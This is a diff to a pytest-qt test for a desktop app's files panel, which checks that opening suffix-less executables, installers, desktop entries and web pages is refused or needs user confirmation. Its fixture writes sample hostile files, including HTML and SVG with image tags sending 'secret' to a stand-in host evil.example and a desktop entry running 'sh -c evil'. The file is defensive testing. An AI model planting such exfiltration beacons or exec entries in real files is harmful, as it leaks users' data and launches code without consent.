@@ -110,6 +110,11 @@ MADE = ("<execute>\nimport os\nopen('invoice', 'wb').write(b'MZ\\x90\\x00' + byt
         "os.makedirs('Report.app/Contents/MacOS')\nopen('Report.app/Contents/MacOS/Report', 'w').write('x')\n"
         "open('setup.deb', 'wb').write(b'!<arch>\\n')\n"
         "open('shortcut', 'w').write('# made by code\\n[Desktop Entry]\\nExec=sh -c evil\\n')\n"
+        "open('addon', 'w').write('x\\n[Flatpak Ref]\\nName=org.evil.App\\n')\n"
+        "open('update', 'wb').write(b'\\xed\\xab\\xee\\xdb\\x03\\x00' + bytes(90))\n"
+        "open('webstart', 'w').write('<?xml version=\"1.0\"?>\\n<jnlp spec=\"1.0\">')\n"  # by the desktop's type
+        "open('notes.txt', 'w').write('hello\\n<p>see <img src=\"https://evil.example/?d=secret\">')\n"
+        "open('chart', 'w').write('\\n<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://evil.example/\"/></svg>')\n"
         "open('report.html', 'w').write('<img src=\"https://evil.example/?d=secret\">')\n"
         "open('summary.html.', 'w').write('\\n<!DOCTYPE html><img src=\"https://evil.example/\">')\n"
         "open('data.csv', 'w').write('x\\n1\\n')\n</execute>")
@@ -118,15 +123,16 @@ MADE = ("<execute>\nimport os\nopen('invoice', 'wb').write(b'MZ\\x90\\x00' + byt
 def test_open_judges_content_and_bundles_and_asks_before_a_page(qtbot, window, monkeypatch):
     # Open handed these to the desktop: a suffix-less PE (wine runs it), a suffix-less shell
     # script, a macOS app bundle (a folder), an installer; and a page the browser loads with
-    # the network the kernel lacks, sending what the code read.
+    # the network the kernel lacks, sending what the code read. Judged by name, by the first
+    # bytes, and by the type the desktop itself gives the file (a Java Web Start file).
     win, _ = window([MADE, "Written."])
     send(qtbot, win, "write the files")
     wait_idle(qtbot, win)
     panel, asked, refused = win.files_panel, [], []
-    qtbot.waitUntil(lambda: panel.list.count() >= 8, timeout=10_000)
+    qtbot.waitUntil(lambda: panel.list.count() >= 13, timeout=10_000)
     monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: asked.append(url.toLocalFile()) or True)
     panel.open_refused.connect(refused.append)
-    for name in ("invoice", "notes", "setup.deb", "shortcut"):
+    for name in ("invoice", "notes", "setup.deb", "shortcut", "addon", "update", "webstart"):
         select(panel, name)
         panel.open_selected()
     monkeypatch.setattr(panel, "selected_relative", lambda: "Report.app")
@@ -134,13 +140,14 @@ def test_open_judges_content_and_bundles_and_asks_before_a_page(qtbot, window, m
     panel.open_selected()
     monkeypatch.undo()
     monkeypatch.setattr(panel_module.QDesktopServices, "openUrl", lambda url: asked.append(url.toLocalFile()) or True)
-    assert asked == [] and len(refused) == 5 and all("could start a program" in r for r in refused), refused
-    select(panel, "summary.html.")  # no suffix: the desktop sniffs a page all the same
-    panel.open_selected()
-    assert asked == [] and shown(panel.notice) and "opens in your web browser" in panel.notice_label.text()
+    assert asked == [] and len(refused) == 8 and all("could start a program" in r for r in refused), refused
+    for name in ("summary.html.", "notes.txt", "chart"):  # the desktop sniffs a page all the same
+        select(panel, name)
+        panel.open_selected()
+        assert asked == [] and shown(panel.notice) and "open in your web browser" in panel.notice_label.text(), name
     select(panel, "report.html")
     panel.open_selected()
-    assert asked == [] and shown(panel.notice) and "opens in your web browser" in panel.notice_label.text()
+    assert asked == [] and shown(panel.notice) and "open in your web browser" in panel.notice_label.text()
     qtbot.mouseClick(panel.notice_open, Qt.LeftButton)  # the user says so
     assert [Path(p).name for p in asked] == ["report.html"]
     select(panel, "data.csv")
